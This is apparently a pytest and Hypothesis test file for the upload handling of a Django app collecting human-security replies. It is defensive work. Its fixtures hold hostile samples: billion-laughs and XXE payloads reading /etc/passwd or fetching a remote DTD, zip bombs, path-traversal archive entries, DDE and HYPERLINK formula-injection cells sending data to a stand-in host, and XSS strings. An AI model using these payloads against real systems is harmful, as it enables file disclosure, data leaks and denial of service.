"""Hostile uploads: whatever file a focal point sends, on purpose or by accident, humsec
answers within the time allowed, never with a server error, and says why a file it
refuses was refused.

The files are random bytes behind real magic numbers, real Word and Excel files built
with python-docx and openpyxl and then damaged (cut short, bytes overwritten, one part
inside the zip changed), XML traps inside those files (entity expansion, external
entities, deep nesting), archive traps (declared and lying zip bombs, thousands of
parts, encrypted parts, unknown compression), and CSV files with formulas, odd
encodings, NUL bytes, control, right-to-left and zero-width characters and very long
cells. Every upload entry point is tried: the narrative (.docx), the initiatives
(.xlsx or .csv) and attachments (any kind)."""

from __future__ import annotations

import functools
import io
import struct
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.files import rezip, workbook

from humsec.outreach import replies
from humsec.outreach.imports.initiatives import read_initiatives
from humsec.outreach.imports.narrative import docx_to_html
from humsec.outreach.imports.uploads import UploadRejected, check_upload
from humsec.outreach.imports.vocabulary import COLUMNS
from humsec.outreach.models import Upload

pytestmark = pytest.mark.django_db

HOSTILE = settings.get_profile("hostile")
DEADLINE_SECONDS = HOSTILE.deadline.total_seconds()
MB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

# Real files ----------------------------------------------------------------------------


@functools.cache
def word_file() -> bytes:
    document = Document()
    document.add_heading("Initiatives of Thailand in the area of human security", level=1)
    document.add_paragraph("Thailand hosted a regional seminar in Bangkok.")
    document.add_paragraph("Protection of children", style="List Bullet")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "2007", "Bangkok seminar"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@functools.cache
def excel_file() -> bytes:
    return workbook(
        [
            ["title", "kind", "start", "city", "lead", "themes"],
            ["Bangkok seminar on human security", "seminar", "May 2007", "Bangkok", "THA", ""],
            ["Mekong trafficking project", "project", "2006", "", "THA", "freedom-from-fear"],
        ]
    )


def replace_part(data: bytes, part: str, content: bytes) -> bytes:
    return rezip(data, lambda name, old: content if name == part else old)


# XML traps -----------------------------------------------------------------------------

_LAUGHS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' if n else '<!ENTITY lol0 "lol">' for n in range(10)
)
XML_TRAPS = {
    "billion laughs": f'<?xml version="1.0"?><!DOCTYPE w:document [{_LAUGHS}]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
    "</w:body></w:document>",
    "external entity": '<?xml version="1.0"?><!DOCTYPE w:document '
    '[<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>'
    "</w:body></w:document>",
    "external DTD": '<?xml version="1.0"?><!DOCTYPE w:document SYSTEM '
    f'"http://203.0.113.9/evil.dtd"><w:document xmlns:w="{W}"/>',
    "parameter entity": '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY % remote '
    f'SYSTEM "http://203.0.113.9/p.dtd"> %remote;]><w:document xmlns:w="{W}"/>',
    "deep nesting": f'<w:document xmlns:w="{W}"><w:body>'
    + "<w:tbl><w:tr><w:tc>" * 3000
    + "<w:p/>"
    + "</w:tc></w:tr></w:tbl>" * 3000
    + "</w:body></w:document>",
    "huge attribute": f'<w:document xmlns:w="{W}" w:x="{"x" * MB}"/>',
    "unknown namespace": '<document xmlns="urn:not-word"><body><p>text</p></body></document>',
    "not XML": "\x00\x01 <<< this is not xml >>>",
    "UTF-16": f'<?xml version="1.0" encoding="UTF-16"?><w:document xmlns:w="{W}"/>',
    "empty": "",
}


def xml_bytes(name: str) -> bytes:
    text = XML_TRAPS[name]
    return text.encode("utf-16") if name == "UTF-16" else text.encode()


# Archive traps -------------------------------------------------------------------------


def _patch_headers(data: bytes, flag_bits: int = 0, method: int | None = None) -> bytes:
    """Set general-purpose flag bits or the compression method in every local and central
    header of a zip: what an encrypting or an exotic zip tool writes."""
    data = bytearray(data)
    for signature, flag_at, method_at in ((b"PK\x03\x04", 6, 8), (b"PK\x01\x02", 8, 10)):
        start = data.find(signature)
        while start != -1:
            (flags,) = struct.unpack_from("<H", data, start + flag_at)
            struct.pack_into("<H", data, start + flag_at, flags | flag_bits)
            if method is not None:
                struct.pack_into("<H", data, start + method_at, method)
            start = data.find(signature, start + 4)
    return bytes(data)


def _many_parts(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word_file())) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        for n in range(count):
            target.writestr(f"word/media/part{n}.xml", "<a/>")
    return out.getvalue()


def _bomb(lying: bool) -> bytes:
    """200 MB of zeros as the Word text (about 200 KB). A lying bomb declares 1 KB in
    the zip's directory, which is all that is checked before reading."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        with zipfile.ZipFile(io.BytesIO(word_file())) as source:
            for info in source.infolist():
                if info.filename != "word/document.xml":
                    archive.writestr(info.filename, source.read(info))
        with archive.open("word/document.xml", "w") as member:
            for _ in range(200):
                member.write(b"\x00" * MB)
    data = bytearray(out.getvalue())
    start = data.find(b"PK\x01\x02")
    while lying and start != -1:
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + name_length] == b"word/document.xml":
            struct.pack_into("<I", data, start + 24, 1024)  # its uncompressed size
        start = data.find(b"PK\x01\x02", start + 4)
    return bytes(data)


@functools.cache
def archive_trap(name: str) -> bytes:
    traps = {
        "zip bomb": lambda: _bomb(lying=False),
        "lying zip bomb": lambda: _bomb(lying=True),
        "2,001 parts": lambda: _many_parts(2001),
        "1,900 parts": lambda: _many_parts(1900),
        "encrypted parts": lambda: _patch_headers(word_file(), flag_bits=0x1),
        "deflate64 parts": lambda: _patch_headers(word_file(), method=9),
        "unknown compression": lambda: _patch_headers(word_file(), method=99),
        "zip in a zip": lambda: rezip(word_file(), add={"word/embeddings/x.zip": word_file()}),
        "paths out of the folder": lambda: rezip(
            word_file(), add={"../../etc/passwd.xml": "<a/>", "/abs.xml": "<a/>"}
        ),
        "no content types": lambda: rezip(
            word_file(), lambda n, c: c if n != "[Content_Types].xml" else b""
        ),
        "only the end of a zip": lambda: b"PK\x05\x06" + b"\x00" * 18,
    }
    return traps[name]()


ARCHIVE_TRAPS = [
    "zip bomb",
    "lying zip bomb",
    "2,001 parts",
    "1,900 parts",
    "encrypted parts",
    "deflate64 parts",
    "unknown compression",
    "zip in a zip",
    "paths out of the folder",
    "no content types",
    "only the end of a zip",
]

# Strategies ----------------------------------------------------------------------------

MAGIC = [
    b"",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"%PDF-1.7\n",
    OLE,
    b"\xef\xbb\xbf",
    b"\xff\xfe",
    b"\xfe\xff",
    b"<!DOCTYPE html>",
    b"{\\rtf1",
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a",
]

random_files = st.builds(
    lambda magic, rest: magic + rest, st.sampled_from(MAGIC), st.binary(max_size=2048)
)


@st.composite
def damaged(draw, original: bytes) -> bytes:
    """A real file cut short, with bytes overwritten, or with one of its parts damaged
    or replaced by an XML trap."""
    how = draw(st.sampled_from(["cut", "overwrite", "part", "trap"]))
    if how == "cut":
        return original[: draw(st.integers(0, len(original) - 1))]
    if how == "overwrite":
        data = bytearray(original)
        for _ in range(draw(st.integers(1, 8))):
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
        return bytes(data)
    with zipfile.ZipFile(io.BytesIO(original)) as archive:
        parts = sorted(archive.namelist())
        part = draw(st.sampled_from(parts))
        content = archive.read(part)
    if how == "trap":
        return replace_part(original, part, xml_bytes(draw(st.sampled_from(sorted(XML_TRAPS)))))
    cut = draw(st.integers(0, len(content)))
    return replace_part(original, part, content[:cut] + draw(st.binary(max_size=64)))


HOSTILE_CELLS = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=1+1",
    "\u202egnp.exe",  # right-to-left override
    "Bang\u200bkok\u200d\ufeff",  # zero-width characters
    "مبادرة الأمن البشري",
    "\x01\x02\x1b[31m\x7f",
    "Thai\x00land",
    "x" * 200_000,  # longer than the csv module's default field limit
    "\r\n\r\n",
    '"unbalanced',
    "2007-13-45",
    "spring 2007",
    "Royaume-Uni",
    "JPN; ; ;;MEX;",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
]

cells = st.one_of(st.sampled_from(HOSTILE_CELLS), st.text(max_size=40))
headers = st.lists(
    st.one_of(st.sampled_from(COLUMNS), st.sampled_from(["id", "status", "titre"]), cells),
    min_size=0,
    max_size=8,
)
tables = st.tuples(headers, st.lists(st.lists(cells, max_size=8), max_size=5))
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "cp1252", "latin-1", "utf-32"]


@st.composite
def csv_files(draw) -> bytes:
    header, rows = draw(tables)
    delimiter = draw(st.sampled_from([",", ";", "\t"]))
    text = "\r\n".join(
        delimiter.join('"' + cell.replace('"', '""') + '"' for cell in row)
        for row in [header, *rows]
    )
    data = text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
    for _ in range(draw(st.integers(0, 2))):
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" + data[at:]
    return data


# What openpyxl cannot write in a cell (control characters) is left out of workbooks.
_XML_UNSAFE = dict.fromkeys([*range(0, 9), 11, 12, *range(14, 32)])


@st.composite
def excel_files(draw) -> bytes:
    header, rows = draw(tables)
    data = workbook([[cell.translate(_XML_UNSAFE) for cell in row] for row in [header, *rows]])
    return draw(st.one_of(st.just(data), damaged(data)))


narrative_files = st.one_of(
    random_files,
    damaged(word_file()),
    st.sampled_from(ARCHIVE_TRAPS).map(archive_trap),
    st.sampled_from(sorted(XML_TRAPS)).map(
        lambda trap: replace_part(word_file(), "word/document.xml", xml_bytes(trap))
    ),
)
initiative_files = st.one_of(
    random_files,
    csv_files(),
    excel_files(),
    damaged(excel_file()),
    st.sampled_from(ARCHIVE_TRAPS).map(archive_trap),
)
file_names = st.one_of(
    st.sampled_from(["reply.docx", "initiatives.xlsx", "initiatives.csv", "note.pdf", "x"]),
    st.text(min_size=1, max_size=300).map(lambda name: name + ".docx"),
    st.sampled_from(["../../etc/passwd", "C:\\Windows\\reply.docx", "\u202excod.exe", "..."]),
)

# Reading, as the product does ------------------------------------------------------------


def read_narrative(data: bytes, name: str) -> str:
    """What the narrative upload does with a file: "" if used, else why it was refused."""
    try:
        check_upload(data, name, {"docx"}, 20 * MB)
        docx_to_html(data)
    except UploadRejected as error:
        return error.message
    return ""


def read_initiative_file(data: bytes, name: str) -> str:
    try:
        kind = check_upload(data, name, {"xlsx", "csv"}, 20 * MB)
    except UploadRejected as error:
        return error.message
    result = read_initiatives(data, kind)
    for problem in result.all_problems:
        assert problem.message.strip(), "a problem without a message"
    return ""


def assert_a_reason(message: str) -> None:
    """A refusal is a sentence that says what is wrong (and usually what to do)."""
    assert message == message.strip() and len(message) > 10 and message.endswith("."), message


# The readers, file by file -------------------------------------------------------------


@HOSTILE
@given(data=narrative_files, name=file_names)
def test_any_file_sent_as_a_word_reply_is_read_or_refused_with_a_reason(watchdog, data, name):
    with watchdog():
        refused = read_narrative(data, name)
    if refused:
        assert_a_reason(refused)


@HOSTILE
@given(data=initiative_files, name=file_names)
def test_any_file_sent_as_initiatives_is_read_or_refused_with_a_reason(watchdog, data, name):
    with watchdog():
        refused = read_initiative_file(data, name)
    if refused:
        assert_a_reason(refused)


@pytest.mark.parametrize("trap", ARCHIVE_TRAPS)
def test_every_archive_trap_is_refused_quickly_or_read_safely(watchdog, trap):
    data = archive_trap(trap)
    with watchdog(seconds=DEADLINE_SECONDS):
        for refused in (read_narrative(data, "reply.docx"), read_initiative_file(data, "x.xlsx")):
            if refused:
                assert_a_reason(refused)


@pytest.mark.parametrize("trap", sorted(XML_TRAPS))
def test_every_xml_trap_in_a_word_reply_is_refused_or_read_without_expanding(watchdog, trap):
    data = replace_part(word_file(), "word/document.xml", xml_bytes(trap))
    with watchdog(seconds=DEADLINE_SECONDS):
        refused = read_narrative(data, "reply.docx")
    if trap in {"billion laughs", "external entity", "external DTD", "parameter entity"}:
        assert "document type declaration" in refused
    elif refused:
        assert_a_reason(refused)


@pytest.mark.parametrize("trap", ["billion laughs", "external entity", "external DTD"])
def test_xml_traps_in_a_workbook_are_refused_without_expanding(watchdog, trap):
    text = XML_TRAPS[trap].replace(W, "http://schemas.openxmlformats.org/spreadsheetml/2006/main")
    data = replace_part(excel_file(), "xl/worksheets/sheet1.xml", text.encode())
    with watchdog(seconds=DEADLINE_SECONDS):
        result = read_initiatives(data, "xlsx")
    assert not result.rows
    assert_a_reason(result.problems[0].message)
    assert "root:" not in str(result)  # nothing of /etc/passwd came in


# Through the reply pages ---------------------------------------------------------------


@pytest.fixture
def post_file(browser, thailand, watchdog):
    """post_file(url name, form prefix, file name, bytes): Thailand's browser sends the
    file and follows the redirect to the page that says what became of it."""

    def post(url_name: str, prefix: str, name: str, data: bytes):
        url = reverse(url_name, kwargs={"recipient_id": thailand.pk})
        upload = SimpleUploadedFile(name, data, content_type="application/octet-stream")
        before = thailand.uploads.order_by("-pk").values_list("pk", flat=True).first() or 0
        with watchdog():
            response = browser.post(url, {f"{prefix}-file": upload}, follow=True)
        return response, thailand.uploads.filter(pk__gt=before).first()

    return post


def messages_of(response) -> list[str]:
    return [str(message) for message in response.context["messages"]]


def assert_the_page_says_what_happened(response, upload: Upload | None) -> None:
    """The answer is the reply page, which says what became of the file: received, not
    used and why, or what the import did row by row."""
    assert response.status_code == 200, response.status_code
    assert response.redirect_chain, "no redirect after the POST"
    shown = messages_of(response)
    if upload is None:  # the form refused it before it was kept (an empty file)
        assert any("was not used:" in message for message in shown), shown
        return
    report = upload.report
    if "refused" in report:
        assert_a_reason(report["refused"])
        assert any(report["refused"] in message for message in shown), shown
    elif upload.purpose == Upload.Purpose.INITIATIVES:
        page = response.text
        assert "What came of" in page, "no import report"
        if report["problems"]:
            assert "were not imported" in page or "Nothing was imported" in page
    else:
        assert any("was received" in message for message in shown), shown


@settings(HOSTILE, max_examples=30)
@given(data=narrative_files, name=file_names)
def test_a_hostile_word_reply_gets_an_answer_and_no_server_error(post_file, thailand, data, name):
    assert_the_page_says_what_happened(*post_file("reply-narrative", "narrative", name, data))


@settings(HOSTILE, max_examples=30)
@given(data=initiative_files, name=file_names)
def test_a_hostile_initiatives_file_gets_an_answer_and_no_server_error(
    post_file, thailand, data, name
):
    assert_the_page_says_what_happened(
        *post_file("reply-initiatives-upload", "initiatives", name, data)
    )


@settings(HOSTILE, max_examples=30)
@given(data=st.one_of(narrative_files, initiative_files), name=file_names)
def test_a_hostile_attachment_gets_an_answer_and_no_server_error(post_file, thailand, data, name):
    assert_the_page_says_what_happened(*post_file("reply-attachment", "attachment", name, data))


def test_a_file_over_the_limit_is_recorded_and_refused_saying_the_limit(post_file, settings):
    settings.HUMSEC_MAX_UPLOAD_MB = 1
    response, upload = post_file("reply-narrative", "narrative", "reply.docx", b"\0" * 2 * MB)
    assert_the_page_says_what_happened(response, upload)
    assert "the limit is 1 MB" in upload.report["refused"]


def test_uploads_never_change_a_submitted_reply(post_file, thailand):
    replies.save_draft(thailand, {"title": "Reply", "narrative_markdown": "Text"}, None)
    replies.submit_contribution(thailand)
    response, upload = post_file("reply-narrative", "narrative", "reply.docx", word_file())
    assert response.status_code == 200
    assert "was submitted" in " ".join(messages_of(response))
    assert upload is None
